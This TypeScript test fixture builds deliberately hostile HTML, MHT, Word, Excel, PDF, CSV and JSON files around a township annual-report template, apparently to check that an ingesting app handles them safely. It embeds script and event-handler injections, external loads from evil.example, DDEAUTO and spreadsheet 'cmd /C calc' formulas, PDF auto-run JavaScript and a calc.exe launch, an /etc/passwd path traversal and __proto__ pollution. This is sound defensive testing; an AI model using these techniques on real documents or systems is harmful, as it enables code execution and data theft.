/** For tests: files and pastes that mean harm, for every reader. Each holds a report, so that it is read and shown. */

import { strToU8, unzipSync, zipSync } from 'fflate';
import { emptyReport, titleOf } from '../../../report/index.ts';
import { compose } from '../../compose.ts';
import { writeHtml } from '../../html/write.ts';
import { docxOf } from '../docx.ts';
import { chineseFont, chineseObjects, pdfOf, utf16 } from '../pdf.ts';
import { xlsxOf } from '../xlsx.ts';
import { pollutedDraft } from './json.ts';
import { formulas, hostileTexts, markup } from './texts.ts';

export interface AttackFile {
  readonly name: string;
  readonly bytes: Uint8Array;
}

const organ = '松塬县老君寨乡人民政府';
const title = `${organ}2024年政府信息公开工作年度报告`;
const heads = '申请人情况 自然人 商业企业 科研机构 社会公益组织 法律服务机构 其他 总计'.split(' ');
const received = '一、本年新收政府信息公开申请数量 1 2 3 4 5 6 21'.split(' ');
/** What XML cannot hold, or not in this way, is left out. */
const escaped = (text: string) =>
  text
    .replace(/(?![\t\n])[\p{Cc}\p{Cs}\p{Noncharacter_Code_Point}]/gu, '')
    .replace(/[&<>"]/g, sign => `&#${sign.charCodeAt(0)};`);
/** A tag that the page's own end would not close takes what follows along. */
const swallows =
  /<(?:script|style|template|noscript|iframe|textarea|title|math|svg|form|object|video|base|!--|!\[)/i;

/** A page around a report; `head` and `body` stand where pages have theirs, `cell` in a table. */
export const pageWith = (body: string, head = '', cell = ''): string =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title>${head}</head><body onload="window.__alarm(1)">
<h1>${title}</h1><p>一、总体情况</p><p>本年公开了信息12条。</p>${body}<p>三、收到和处理政府信息公开申请情况</p>
<table><tr>${heads.map(text => `<td>${text}</td>`).join('')}</tr><tr>${received.map(text => `<td>${text}${cell}</td>`).join('')}</tr></table>
<p>五、存在的主要问题及改进情况</p><p>更新不够及时。</p></body></html>`;

/** One page for each piece of markup, in the text, and once more in the cells. */
export const attackPages: readonly AttackFile[] = markup.flatMap((text, at) => [
  { name: `标记${at}.html`, bytes: strToU8(pageWith(`<p>甲${text}乙</p>`)) },
  { name: `格中标记${at}.html`, bytes: strToU8(pageWith('', '', text)) },
]);

const tame = markup.filter(text => !swallows.test(text));
const words = hostileTexts.map(text => `<p>甲${escaped(text)}乙</p>`).join('');
/** All at once, as the browser is given it. */
const page = pageWith(
  `${tame.map(text => `<div>${text}</div>`).join('')}${markup.map(text => `<iframe srcdoc="${escaped(text)}"></iframe>`).join('')}<svg onload="window.__alarm(1)"><script>window.__alarm(1)</script></svg><script>window.__alarm(1)</script><img src="https://evil.example/i.png" srcset="https://evil.example/s.png 2x" onerror="window.__alarm(1)"><video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video>`,
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css"><link rel="prefetch" href="https://evil.example/b"><link rel="dns-prefetch" href="//evil.example"><style>@import "https://evil.example/c.css";*{background:url(https://evil.example/d)}#root{display:none!important}</style><script src="https://evil.example/e.js"></script>',
);

/** So long that the browser is given the page around it a piece at a time. */
const longText = '公开了信息。'.repeat(8000);

const mht = (html: string): Uint8Array =>
  strToU8(
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset="utf-8"\r\nContent-Location: https://evil.example/\r\n\r\n${html}\r\n--b\r\nContent-Type: application/javascript\r\nContent-Location: https://evil.example/e.js\r\n\r\nwindow.__alarm(1)\r\n--b--\r\n`,
  );

const line = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${escaped(text)}</w:t></w:r></w:p>`;
const cell = (text: string) => `<w:tc>${line(text)}</w:tc>`;
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const field = (code: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${escaped(code)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>域</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;

/** A Word file with `extra` in its text. */
const wordBody = (extra: string): string =>
  [title, '一、总体情况', '本年公开了信息12条。'].map(line).join('') +
  extra +
  line('三、收到和处理政府信息公开申请情况') +
  `<w:tbl><w:tr>${heads.map(cell).join('')}</w:tr><w:tr>${received.map(cell).join('')}</w:tr></w:tbl>` +
  ['五、存在的主要问题及改进情况', '更新不够及时。'].map(line).join('');

const pointers = [
  ['hyperlink', 'javascript:window.__alarm(1)', true],
  ['image', 'https://evil.example/x.png', true],
  ['attachedTemplate', 'https://evil.example/t.dotm', true],
  ['aFChunk', 'https://evil.example/c.html', true],
  ['oleObject', 'file://evil.example/o', true],
  ['subDocument', 'https://evil.example/d.docx', true],
  ['frame', 'https://evil.example/f.html', true],
  ['aFChunk', 'chunk.htm', false],
  ['image', '../../../../etc/passwd', false],
  ['styles', 'https://evil.example/styles.xml', true],
  ['vbaProject', 'vbaProject.bin', false],
] as const;

/** A Word file that points outside wherever Word does. */
function pointingDocx(): Uint8Array {
  const parts = unzipSync(
    docxOf(
      wordBody(
        `${hostileTexts.map(text => line(`甲${text}乙`)).join('')}<w:p><w:hyperlink r:id="p0" w:anchor="x"><w:r><w:t>按此</w:t></w:r></w:hyperlink>${formulas.map(field).join('')}${field('DDEAUTO cmd "/c calc"')}<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://evil.example/x.png&quot;"><w:r><w:t>图</w:t></w:r></w:fldSimple></w:p><w:altChunk r:id="p7"/><w:altChunk r:id="p3"/><w:subDoc r:id="p5"/>`,
      ),
    ),
  );
  const relations = pointers.map(
    ([type, target, isOutside], at) =>
      `<Relationship Id="p${at}" Type="${office}/${type}" Target="${target}"${isOutside ? ' TargetMode="External"' : ''}/>`,
  );
  const name = 'word/_rels/document.xml.rels';
  const usual = new TextDecoder().decode(parts[name]);
  return zipSync({
    ...parts,
    [name]: strToU8(usual.replace('</Relationships>', `${relations.join('')}</Relationships>`)),
    'word/chunk.htm': strToU8(pageWith(`${tame.join('')}<script>window.__alarm(1)</script>`)),
    'word/vbaProject.bin': strToU8('x'),
  });
}

const row = (cells: readonly string[]) => `<row>${cells.join('')}</row>`;
const text = (value: string) => `<c t="inlineStr"><is><t>${escaped(value)}</t></is></c>`;
const number = (value: string) => `<c><f>cmd|' /C calc'!A0</f><v>${value}</v></c>`;

const workbook = (words: readonly string[]): Uint8Array =>
  xlsxOf([
    {
      content: `<sheetData>${[
        row([text(title)]),
        row([text('一、总体情况')]),
        ...words.map(value => row([text(`甲${value}乙`)])),
        row([text('三、收到和处理政府信息公开申请情况')]),
        row(heads.map(text)),
        row([text(received[0] ?? ''), ...received.slice(1).map(number)]),
        row([text('五、存在的主要问题及改进情况')]),
        row([text('更新不够及时。')]),
      ].join('')}</sheetData><hyperlinks><hyperlink ref="A1" r:id="x" xmlns:r="${office}"/></hyperlinks>`,
    },
  ]);

const attackPdf = (): Uint8Array =>
  pdfOf({
    fonts: chineseFont('UniGB-UTF16-H'),
    objects: {
      ...chineseObjects,
      102: '<< /S /JavaScript /JS (app.alert\\(1\\); window.__alarm\\(1\\)) >>',
      103: '<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (javascript:window.__alarm\\(1\\)) >> /AA << /E 102 0 R >> >>',
      104: '<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /Launch /F (calc.exe) >> >>',
    },
    page: '/Annots [103 0 R 104 0 R] /AA << /O 102 0 R >>',
    catalogue:
      '/OpenAction 102 0 R /AA << /WC 102 0 R >> /Names << /JavaScript << /Names [(a) 102 0 R] >> >>',
    pages: [
      [
        title,
        '一、总体情况',
        '本年公开了<script>window.__alarm(1)</script>信息12条。',
        '五、存在的主要问题及改进情况',
        '=1+1 更新不够<img src=x onerror=window.__alarm(1)>及时。',
      ]
        .map((words, at) => `BT /F1 11 Tf 60 ${780 - at * 24} Td ${utf16(words)} Tj ET`)
        .join('\n'),
    ],
  });

const published = (): string => {
  const report = {
    ...emptyReport(organ, 2024),
    texts: { problems: markup.join('\n'), others: formulas.join('\n') },
  };
  return writeHtml(
    { ...compose(report, null), title: titleOf(report) },
    { data: pollutedDraft('__proto__') },
  ).replace('</body>', '<script>window.__alarm(1)</script><img src=x onerror="window.__alarm(1)"></body>');
};

const plain = [
  title,
  '一、总体情况',
  ...hostileTexts.map(value => `甲${value.replace(/\s/g, ' ')}乙`),
  '五、存在的主要问题及改进情况',
  ...markup,
].join('\n');

/** A report of a few lines in every format, and a register: quickly read, to be spoilt in many ways. */
export const smallFiles = (): readonly AttackFile[] => [
  {
    name: '小.html',
    bytes: strToU8(pageWith('<p>甲</p>', '<style>.a{color:red}</style>', '<span>件</span>')),
  },
  { name: '小.mht', bytes: mht(pageWith('<ul><li>甲<li>乙</ul>')) },
  {
    name: '小.txt',
    bytes: strToU8(
      [title, '一、总体情况', '甲。', heads.join('\t'), received.join('\t'), '五、问题', '乙。'].join('\n'),
    ),
  },
  { name: '小.docx', bytes: docxOf(wordBody(line('甲'))) },
  { name: '小.xlsx', bytes: workbook(['甲']) },
  {
    name: '小.json',
    bytes: strToU8(
      `{"format":"zwgk-annual-report","version":1,"report":{"form":"2021","year":2025,"facts":{"organ":"${organ}"},"texts":{"problems":"甲"},"parts":[{"id":"own1","heading":"乙"}],"figures":{"requests.received.natural":1,"requests.received.legal":{"raw":"x"}},"confirmed":["problems"],"ledger":{"use":"aside","lines":[{"id":"a","received":"2025-03-01","note":"丙"}]}},"lastYear":null}`,
    ),
  },
  {
    name: '台账小.csv',
    bytes: strToU8(
      '收到日期,申请人类别,处理决定,答复日期,备注\n2025-3-1,公民,予以公开,3月20日,1\n2025/4/1,企业,"不予公开,隐私",,2',
    ),
  },
];

/** What the clerk may be given, one of each kind; the browser is shown all of them. */
export const attackFiles = (): readonly AttackFile[] => [
  { name: '网页.html', bytes: strToU8(page) },
  { name: '字样.html', bytes: strToU8(pageWith(words)) },
  { name: '很长的网页.html', bytes: strToU8(page.replace('<p>', `<p>${longText}</p><p>`)) },
  { name: '网页.mht', bytes: mht(page) },
  { name: '字样.mht', bytes: mht(pageWith(words)) },
  { name: '文字.txt', bytes: strToU8(plain) },
  { name: '指向外面.docx', bytes: pointingDocx() },
  { name: '公式.xlsx', bytes: workbook(hostileTexts) },
  { name: '脚本.pdf', bytes: attackPdf() },
  { name: '草稿.json', bytes: strToU8(pollutedDraft('__proto__')) },
  { name: '发布.html', bytes: strToU8(published()) },
];

/** A page as the clipboard has it. */
export const attackPaste = page;

/** A register whose every cell is hostile. */
export const attackRegister = (): string =>
  [
    '收到日期,申请人类别,处理决定,答复日期,备注',
    ...hostileTexts.map((value, at) => {
      const quoted = `"${value.replace(/"/g, '""')}"`;
      return `2025-3-${1 + (at % 28)},${quoted},${quoted},${quoted},${quoted}`;
    }),
  ].join('\r\n');
